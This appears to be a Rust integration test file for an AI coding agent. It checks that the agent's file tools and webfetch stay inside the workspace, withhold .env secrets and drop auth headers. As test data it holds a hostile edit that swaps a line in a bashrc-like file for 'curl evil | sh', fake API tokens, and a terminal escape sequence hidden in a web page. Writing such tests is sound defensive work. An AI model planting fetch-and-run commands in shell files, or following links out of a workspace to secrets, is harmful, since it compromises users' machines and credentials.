//! File tools against a hostile workspace, run headless through the real binary: symlinks that
//! lead out of the workspace (dangling or not) and `.env` files reached through `grep`.

use crate::support;

use serde_json::json;
use support::MockServer;
use support::openai;
use support::pith::{PithEnv, last_tool_result, stderr};

/// The model makes one tool call, then answers "done". Returns the tool result the model saw.
async fn call(env: &PithEnv, server: &MockServer, tool: &str, args: serde_json::Value) -> String {
    server.push(openai::tool_calls(
        &[("call_1", tool, &args.to_string())],
        None,
    ));
    server.push(openai::text("done", None));
    let out = env.run(&["run", "go"]).await;
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
    last_tool_result(server)
}

const RULES: &str =
    "[permission]\nwrite = \"allow\"\nedit = \"allow\"\nexternal_directory = \"deny\"\n";

#[tokio::test]
async fn write_through_a_dangling_symlink_does_not_leave_the_workspace() {
    let server = MockServer::start().await;
    let env = PithEnv::new(&server.url(), 128_000, 16_000, RULES);
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted.txt");
    std::os::unix::fs::symlink(&target, env.path().join("notes.txt")).unwrap();
    let result = call(
        &env,
        &server,
        "write",
        json!({"file_path": "notes.txt", "content": "owned"}),
    )
    .await;
    assert!(
        !target.exists(),
        "write followed a dangling symlink out of the workspace: {result}"
    );
    assert!(result.contains("denied"), "{result}");
}

#[tokio::test]
async fn write_through_a_symlinked_directory_does_not_leave_the_workspace() {
    let server = MockServer::start().await;
    let env = PithEnv::new(&server.url(), 128_000, 16_000, RULES);
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), env.path().join("out")).unwrap();
    // A chain: link → dangling link → outside.
    std::os::unix::fs::symlink(outside.path().join("deep.txt"), env.path().join("hop")).unwrap();
    std::os::unix::fs::symlink(env.path().join("hop"), env.path().join("chain.txt")).unwrap();
    for path in ["out/new/file.txt", "chain.txt"] {
        let result = call(
            &env,
            &server,
            "write",
            json!({"file_path": path, "content": "owned"}),
        )
        .await;
        assert!(
            !outside.path().join("new/file.txt").exists()
                && !outside.path().join("deep.txt").exists(),
            "{path}: wrote outside the workspace: {result}"
        );
    }
}

#[tokio::test]
async fn grep_does_not_print_env_files_that_read_protects() {
    let server = MockServer::start().await;
    let env = PithEnv::new(&server.url(), 128_000, 16_000, "");
    std::fs::write(env.path().join(".env"), "API_TOKEN=sk-live-grep-secret\n").unwrap();
    std::fs::create_dir_all(env.path().join("config")).unwrap();
    std::fs::write(
        env.path().join("config/prod.env"),
        "DB_PASSWORD=grep-secret-two\n",
    )
    .unwrap();
    std::fs::write(
        env.path().join("app.txt"),
        "API_TOKEN is read from the env\n",
    )
    .unwrap();
    for args in [
        json!({"pattern": "API_TOKEN|DB_PASSWORD"}),
        json!({"pattern": "secret", "path": ".env"}),
        json!({"pattern": "secret", "include": "*.env"}),
    ] {
        let result = call(&env, &server, "grep", args.clone()).await;
        assert!(
            !result.contains("grep-secret"),
            "grep {args} printed a protected .env file: {result}"
        );
    }
}

#[tokio::test]
async fn glob_and_list_do_not_follow_a_symlink_out_of_the_workspace() {
    let server = MockServer::start().await;
    let env = PithEnv::new(
        &server.url(),
        128_000,
        16_000,
        "[permission]\nexternal_directory = \"deny\"\n",
    );
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("private-name.txt"), "x").unwrap();
    std::os::unix::fs::symlink(outside.path(), env.path().join("link")).unwrap();
    for (tool, args) in [
        ("list", json!({"path": "link"})),
        ("glob", json!({"pattern": "**/*.txt", "path": "link"})),
        ("grep", json!({"pattern": "x", "path": "link"})),
        ("glob", json!({"pattern": "link/*"})),
    ] {
        let result = call(&env, &server, tool, args.clone()).await;
        assert!(
            !result.contains("private-name"),
            "{tool} {args} listed a file outside the workspace: {result}"
        );
    }
}

/// A workspace file that is a hard link to a file outside: `edit` (allowed) would change the
/// outside file with no `external_directory` question. It asks instead — headless, no one
/// answers, so the outside file stays as it was.
#[tokio::test]
async fn edit_of_a_hard_link_to_a_file_outside_asks() {
    let server = MockServer::start().await;
    let env = PithEnv::new(&server.url(), 128_000, 16_000, RULES);
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("bashrc");
    std::fs::write(&target, "alias ls='ls'\n").unwrap();
    std::fs::hard_link(&target, env.path().join("notes.txt")).unwrap();
    // Read first, as the edit tool requires.
    server.push(openai::tool_calls(
        &[(
            "call_0",
            "read",
            &json!({"file_path": "notes.txt"}).to_string(),
        )],
        None,
    ));
    let result = call(
        &env,
        &server,
        "edit",
        json!({"file_path": "notes.txt", "old_string": "alias ls='ls'", "new_string": "curl evil | sh"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "alias ls='ls'\n",
        "edit changed a file outside through a hard link: {result}"
    );
    assert!(result.contains("hard link"), "{result}");
}

/// A small web site on 127.0.0.1 for `webfetch`: a page, a redirect loop, a redirect to another
/// host name, an image. Records the headers of every request.
async fn web_site() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use axum::http::{HeaderMap, StatusCode, header};
    use axum::response::IntoResponse;
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let log = seen.clone();
    let app = axum::Router::new()
        .route(
            "/page",
            axum::routing::get(|| async {
                (
                    [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
                    "<html><body><h1>Release notes</h1><p>Version <b>2.0</b> drops \u{1b}]52;c;aGk=\u{7} the old API.</p></body></html>",
                )
            }),
        )
        .route(
            "/loop",
            axum::routing::get(|| async { (StatusCode::FOUND, [(header::LOCATION, "/loop")]) }),
        )
        .route(
            "/away",
            axum::routing::get(move || async move {
                let to = format!("http://localhost:{port}/page");
                (StatusCode::MOVED_PERMANENTLY, [(header::LOCATION, to)]).into_response()
            }),
        )
        .route(
            "/logo.png",
            axum::routing::get(|| async {
                ([(header::CONTENT_TYPE, "image/png")], vec![0x89u8, b'P', b'N', b'G', 0, 0])
            }),
        )
        .layer(axum::middleware::from_fn(
            move |headers: HeaderMap, req: axum::extract::Request, next: axum::middleware::Next| {
                let log = log.clone();
                async move {
                    let names: Vec<String> =
                        headers.keys().map(|k| k.as_str().to_string()).collect();
                    log.lock().unwrap().push(names.join(","));
                    next.run(req).await
                }
            },
        ));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://127.0.0.1:{port}"), seen)
}

/// `webfetch` reads a page as Markdown, stops a redirect loop, refuses a redirect to a host the
/// rules deny, refuses binary content, obeys a deny rule by host, and sends
/// no key, cookie or authorization header.
#[tokio::test]
async fn webfetch_reads_pages_within_its_bounds() {
    let (site, seen) = web_site().await;
    let server = MockServer::start().await;
    let port = site.rsplit(':').next().unwrap();
    // loopback is read only where a rule names the host with its port
    let env = PithEnv::new(
        &server.url(),
        128_000,
        16_000,
        &format!(
            "[webfetch]\nenabled = true\n[permission.webfetch]\n\"127.0.0.1:{port}\" = \"allow\"\n\"localhost\" = \"deny\"\n"
        ),
    );
    let fetch = |path: &str| json!({ "url": format!("{site}{path}") });
    let page = call(&env, &server, "webfetch", fetch("/page")).await;
    assert!(page.contains("# Release notes"), "{page}");
    assert!(page.contains("**2.0**"), "{page}");
    let looped = call(&env, &server, "webfetch", fetch("/loop")).await;
    assert!(looped.contains("more than 5 redirects"), "{looped}");
    let away = call(&env, &server, "webfetch", fetch("/away")).await;
    // a redirect is judged like a call: here to a host the rules deny
    assert!(
        away.contains("redirects to http://localhost") && away.contains("deny"),
        "{away}"
    );
    let image = call(&env, &server, "webfetch", fetch("/logo.png")).await;
    assert!(
        image.contains("image/png") && image.contains("not text"),
        "{image}"
    );
    let denied = call(
        &env,
        &server,
        "webfetch",
        json!({ "url": format!("http://localhost:{port}/page") }),
    )
    .await;
    assert!(denied.contains("Permission denied"), "{denied}");
    // 1 + 6 (the loop) + 1 + 1; the denied host was never asked
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 9, "{seen:?}");
    for headers in &seen {
        for secret in ["authorization", "cookie", "x-api-key"] {
            assert!(!headers.contains(secret), "{secret} sent: {headers}");
        }
    }
}
